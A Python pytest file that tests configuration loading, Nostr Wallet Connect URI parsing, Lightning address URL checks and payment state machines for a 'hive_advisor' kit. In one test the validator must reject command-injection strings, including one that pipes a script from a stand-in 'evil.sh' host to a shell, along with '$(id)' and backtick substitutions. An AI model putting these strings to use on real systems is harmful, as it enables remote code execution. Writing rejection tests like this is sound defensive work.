"""What the kit reads about ways in and out: settings, wallet-connect URIs and answers, Lightning addresses
(docs/protocol/11-advisor-kit.md §8, §13)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from hive_advisor.config import ReceiveConfig, SpendConfig, load_config
from hive_advisor.domain import lnaddress, nwc
from hive_advisor.domain.earning import TABLE, EarningEvent, EarningState, agreed_sats, look_pause_s
from hive_advisor.domain.outgoing import OutEvent, OutState, max_fee_msat, next_state
from hive_shared.crypto import Secret, xonly_pubkey
from hive_shared.errors import HiveError, InvalidParams, PaymentFailed, Unsupported
from hypothesis import given, settings
from hypothesis import strategies as st

KEY, SECRET = xonly_pubkey(Secret(b"\x07" * 32)), "11" * 32
URI = (
    f"nostr+walletconnect://{KEY}?relay=wss%3A%2F%2Fr.example.org&relay=wss://s.example.org/&secret={SECRET}"
)


def config(directory: Path, text: str) -> Any:
    path = directory / "config.toml"
    path.write_text(text)
    return load_config(path)


def test_ways_follow_from_what_is_set(tmp_path: Path) -> None:
    empty = config(tmp_path, "")
    assert (empty.receive, empty.spend) == (ReceiveConfig(), SpendConfig())
    assert config(tmp_path, '[receive]\ncln = "mine"').receive.method == "cln"
    by_address = config(tmp_path, '[receive]\nlnaddress = "Me@Example.org"')
    assert by_address.receive == ReceiveConfig("lnaddress", "me@example.org")
    paying = config(tmp_path, '[spend]\nmethod = "nwc"\ndaily_sats = 500')
    assert paying.spend == SpendConfig("nwc", "", 500)


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ('[receive]\nmethod = "paypal"', "one of none, manual, cln, lnaddress, nwc"),
        ('[receive]\nmethod = "cln"', "needs receive.cln"),
        ('[receive]\nmethod = "lnaddress"', "needs receive.lnaddress"),
        ('[receive]\nlnaddress = "me"', "no Lightning address"),
        ('[receive]\nlnaddress = "me@192.168.1.1"', "private network"),
        ("[receive]\ncln = 5", "take texts"),
        ('[receive]\nnwc_file = "x"', "unknown key receive.nwc_file"),
        ('[spend]\nmethod = "lnaddress"', "one of none, cln, nwc"),
        ("[spend]\ndaily_sats = -1", "from 0 to"),
        ("[spend]\ndaily_sats = true", "from 0 to"),
        ("[spend]\ncln = 1", "name of a node"),
    ],
)
def test_a_bad_setting_is_named(tmp_path: Path, text: str, why: str) -> None:
    with pytest.raises(InvalidParams, match=why):
        config(tmp_path, text)


def test_a_wallet_uri_is_read_and_its_secret_never_shown() -> None:
    found = nwc.parse_uri(URI + "&lud16=me@example.org\n")
    assert found.wallet == KEY and found.relays == ("wss://r.example.org", "wss://s.example.org")
    assert SECRET not in repr(found) and len(found.pubkey) == 64


@pytest.mark.parametrize(
    "uri",
    [
        "",
        "nostr+walletconnect://",
        URI.replace(KEY, KEY.upper()),
        URI.replace(KEY, "f1" * 32),
        URI.replace(SECRET, SECRET[:-1]),
        URI.replace(SECRET, "00" * 32),
        URI + f"&secret={SECRET}",
        f"nostr+walletconnect://{KEY}?secret={SECRET}",
        f"nostr+walletconnect://{KEY}?relay=http://x&secret={SECRET}",
        URI + "&relay=wss://a.example.org" * 3,
        URI.replace("nostr+walletconnect", "https"),
    ],
)
def test_a_wallet_uri_that_is_none_is_refused_without_its_secret(uri: str) -> None:
    with pytest.raises(InvalidParams) as refused:
        nwc.parse_uri(uri)
    assert SECRET[:-1] not in refused.value.detail


def test_a_wallet_has_to_speak_nip44_and_serve_what_is_needed() -> None:
    nwc.check_info("pay_invoice lookup_invoice", [["encryption", "nip44_v2 nip04"]], ("pay_invoice",))
    with pytest.raises(Unsupported, match="nip04 only"):
        nwc.check_info("pay_invoice", [["encryption", "nip04"]], ("pay_invoice",))
    with pytest.raises(Unsupported, match="nip04 only"):
        nwc.check_info("pay_invoice", [], ("pay_invoice",))
    with pytest.raises(Unsupported, match="make_invoice"):
        nwc.check_info("pay_invoice make_invoices", [["encryption", "nip44_v2"]], ("make_invoice",))


@pytest.mark.parametrize(
    "text",
    ["", "[]", "{}", '{"result_type":"pay_invoice"}', '{"result_type":"get_info","result":{}}', "{" * 100],
)
def test_an_answer_that_is_none_is_refused(text: str) -> None:
    with pytest.raises(PaymentFailed):
        nwc.read_answer(text, "pay_invoice")


@given(st.text(max_size=200))
@settings(max_examples=60, deadline=None)
def test_no_text_of_a_stranger_raises_anything_else(text: str) -> None:
    assert nwc.paid_hash(text) == ""
    for reads in (nwc.parse_uri, lnaddress.address_url, lambda t: nwc.read_answer(t, "x")):
        with pytest.raises(HiveError):
            reads(text)


def test_an_address_is_asked_over_tls_or_as_an_onion() -> None:
    assert lnaddress.address_url("Me@Pay.example.org") == "https://pay.example.org/.well-known/lnurlp/me"
    onion = "a" * 56 + ".onion"
    assert lnaddress.address_url(f"me@{onion}") == f"http://{onion}/.well-known/lnurlp/me"
    for bad in ("http://example.org/x", "https://u:p@example.org/x", "https://example.org/#x", None):
        with pytest.raises(InvalidParams):
            lnaddress.checked_url(bad, "it")
    for bad in ("x.com;curl${IFS}evil.sh|sh", "x$(id).com", "x`id`.com", "x.com&id", "x'.com", "-f.com"):
        with pytest.raises(InvalidParams, match=r"it is at|it: "):
            lnaddress.checked_url(f"https://{bad}/cb", "it")


def test_pay_is_agreed_by_the_credential() -> None:
    agreed = {"model": "per_action", "rate_sats": 25, "accepted_methods": ["bolt11"]}
    assert agreed_sats({"compensation": agreed}, 4) == 25
    assert agreed_sats({"compensation": {**agreed, "accepted_methods": ["cashu"]}}, 4) == 0
    assert agreed_sats({"compensation": {"model": "per_action"}}, 4) == 25
    assert agreed_sats({"compensation": {**agreed, "model": "subscription"}}, 4) == 0
    assert agreed_sats({}, 4) == 0


def test_paid_is_the_end_and_reached_from_everywhere() -> None:
    for state in EarningState:
        moved = TABLE.get((state, EarningEvent.ON_PAID))
        assert moved == (None if state == "paid" else EarningState.PAID)
        assert state != "paid" or not [key for key in TABLE if key[0] == state]
    assert look_pause_s(0) == 10 and look_pause_s(50) == 3_600


def test_nothing_is_ever_sent_again() -> None:
    for state in OutState:
        for event in OutEvent:
            assert next_state(state, event) is not OutState.SENDING
    assert next_state(OutState.PAID, OutEvent.ON_FAILED) is None
    assert (max_fee_msat(5), max_fee_msat(10_000)) == (5_000, 50_000)
